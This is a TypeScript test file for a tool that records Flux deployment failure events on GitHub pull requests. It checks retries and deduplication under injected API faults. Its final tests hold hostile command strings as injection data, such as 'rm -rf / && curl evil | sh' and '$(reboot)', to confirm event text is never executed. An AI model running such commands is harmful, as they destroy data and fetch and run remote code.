import { describe, expect, it } from 'vitest';
import { decodeState, handleEvent, parseFluxEvent, reevaluate } from '../src/index.ts';
import { fluxEvent, REPO, useFixture, type Fixture } from './fixture.ts';

/**
 * A failure event's record is three GitHub writes (state in the PR body, a comment, a label).
 * Faults from the API double, stored and not stored, must never lose any of them nor duplicate the
 * comment: each write is retried, and a redelivery or the scheduled run completes what is missing.
 */

const setup = useFixture();

const trinoChange = { 'apps/trino/deploy/overlays/multi-node/kustomization.yaml': 'resources: [../../base]\nreplicas: [{ name: trino, count: 3 }]\n' };
const COMMENTS = '/repos/{owner}/{repo}/issues/{issue_number}/comments';
const LABELS = '/repos/{owner}/{repo}/issues/{issue_number}/labels';
const PULL = '/repos/{owner}/{repo}/pulls/{pull_number}';

async function pending(): Promise<{ f: Fixture; failure: Record<string, unknown> }> {
  const f = await setup();
  const rev = await f.commitMain(trinoChange, 'trino: 3 replicas');
  expect(await handleEvent(fluxEvent({ revision: rev }), f.deps())).toMatchObject({ status: 'opened', pr: 1 });
  const failure = fluxEvent({ revision: rev, severity: 'error', reason: 'HealthCheckFailed', timestamp: '2026-11-24T11:55:00Z', message: 'Health check failed after 5m' });
  return { f, failure };
}

const blockedComments = (f: Fixture) => f.double.comments(REPO, 1).filter((c) => c.body.includes('Promotion blocked'));
const failures = (f: Fixture) => decodeState(f.double.pullRequests(REPO)[0]!.body ?? '')!.failures;

/** Everything recorded exactly once: one failure in the state, one comment, the label. */
function expectComplete(f: Fixture): void {
  expect(failures(f)).toHaveLength(1);
  expect(blockedComments(f)).toHaveLength(1);
  expect(blockedComments(f)[0]!.body).toContain('HealthCheckFailed');
  expect(f.double.labels(REPO, 1)).toContain('promotion-blocked');
}

describe('a failure event is recorded as a whole despite GitHub faults', () => {
  it('comment create answered 500/502/403, stored or not: retried or adopted by its marker, never two comments', async () => {
    const { f, failure } = await pending();
    const scenarios = [
      { status: 500, afterHandling: false },
      { status: 502, afterHandling: true },
      { status: 403, afterHandling: false, retryAfter: 1 },
      { status: 403, afterHandling: true, retryAfter: 1 },
    ] as const;
    for (const [i, fault] of scenarios.entries()) {
      // A new failure each time (its own event id and comment) on the same pending promotion.
      const event = structuredClone(failure) as { client_payload: { timestamp: string } };
      event.client_payload.timestamp = `2026-11-24T11:5${i}:00Z`;
      const before = f.double.requestsFor('issues/create-comment').length;
      f.double.injectFault({ method: 'POST', path: COMMENTS, ...fault });
      const out = await handleEvent(event, f.deps({ retryDelayMs: 1 }));
      expect(out, JSON.stringify(fault)).toMatchObject({ status: 'blocked', exit: 0, pr: 1 });
      expect(failures(f)).toHaveLength(i + 1);
      expect(blockedComments(f), JSON.stringify(fault)).toHaveLength(i + 1);
      expect(blockedComments(f).filter((c) => c.body.includes(`at ${new Date(event.client_payload.timestamp).toISOString()}`))).toHaveLength(1);
      expect(f.double.requestsFor('issues/create-comment').slice(before).map((r) => r.status)).toEqual(fault.afterHandling ? [fault.status] : [fault.status, 201]);
    }
    expect(f.double.labels(REPO, 1)).toContain('promotion-blocked');
  });

  for (const afterHandling of [false, true]) {
    it(`state update answered 502 and label add 500 (${afterHandling ? 'stored' : 'not stored'}): retried until stored`, async () => {
      const { f, failure } = await pending();
      f.double.injectFault({ method: 'PATCH', path: PULL, status: 502, afterHandling });
      f.double.injectFault({ method: 'POST', path: LABELS, status: 500, afterHandling });
      expect(await handleEvent(failure, f.deps({ retryDelayMs: 1 }))).toMatchObject({ status: 'blocked', exit: 0 });
      expectComplete(f);
    });
  }

  it('a fault that outlasts the retries fails the run; the redelivered event completes the comment and label (it used to say "already recorded")', async () => {
    const { f, failure } = await pending();
    // The sticky comment tries a create 3 times; one write attempt around it.
    f.double.injectFault({ method: 'POST', path: COMMENTS, status: 500, times: 3 });
    await expect(handleEvent(failure, f.deps({ retryDelayMs: 1, writeAttempts: 1 }))).rejects.toMatchObject({ status: 500 });
    expect(failures(f)).toHaveLength(1); // the state (what stops a merge) landed first
    expect(blockedComments(f)).toHaveLength(0);
    expect(f.double.labels(REPO, 1)).not.toContain('promotion-blocked');
    const again = await handleEvent(failure, f.deps({ retryDelayMs: 1 }));
    expect(again).toMatchObject({ status: 'blocked', exit: 0 });
    expect(again.message).toMatch(/completed on redelivery: comment, label/);
    expectComplete(f);
    // A third delivery finds everything in place.
    expect(await handleEvent(failure, f.deps({ retryDelayMs: 1 }))).toMatchObject({ status: 'unchanged', exit: 0 });
    expectComplete(f);
  });

  it('without a redelivery the scheduled run completes a label a fault kept out, and posts no second comment', async () => {
    const { f, failure } = await pending();
    f.double.injectFault({ method: 'POST', path: LABELS, status: 502, times: 2 });
    await expect(handleEvent(failure, f.deps({ retryDelayMs: 1, writeAttempts: 2 }))).rejects.toMatchObject({ status: 502 });
    expect(blockedComments(f)).toHaveLength(1);
    expect(f.double.labels(REPO, 1)).not.toContain('promotion-blocked');
    const [outcome] = await reevaluate(f.deps({ retryDelayMs: 1 }));
    expect(outcome).toMatchObject({ status: 'waiting', pr: 1 });
    expectComplete(f);
  });
});

describe('event text is data, never a command', () => {
  it('shell metacharacters in the message are accepted, shown only in the fenced comment, and reach no process', async () => {
    const { f, failure } = await pending();
    const text = 'probe failed; rm -rf / && curl evil | sh > /tmp/x $HOME';
    (failure.client_payload as { message: string }).message = text;
    expect(await handleEvent(failure, f.deps({ retryDelayMs: 1 }))).toMatchObject({ status: 'blocked', exit: 0 });
    expect(blockedComments(f)[0]!.body).toContain(`\`\`\`\`text\n${text}\n\`\`\`\``);
    expect(f.calls.some((argv) => argv.some((a) => a.includes('rm -rf') || a.includes('$HOME')))).toBe(false);
  });

  it('command substitution, backticks and control characters are refused (exit 2, field named)', async () => {
    for (const message of ['$(reboot)', '`id`', '${HOME}', 'a\u0007b', 'x <!-- y']) {
      const event = fluxEvent({ revision: 'a'.repeat(40), severity: 'error', reason: 'HealthCheckFailed', message });
      expect(() => parseFluxEvent(event, { services: new Set(['trino']), namespace: 'flux-system', branch: 'main', successReasons: [], now: new Date('2026-11-24T12:00:00Z') })).toThrow(/client_payload.message/);
    }
  });
});
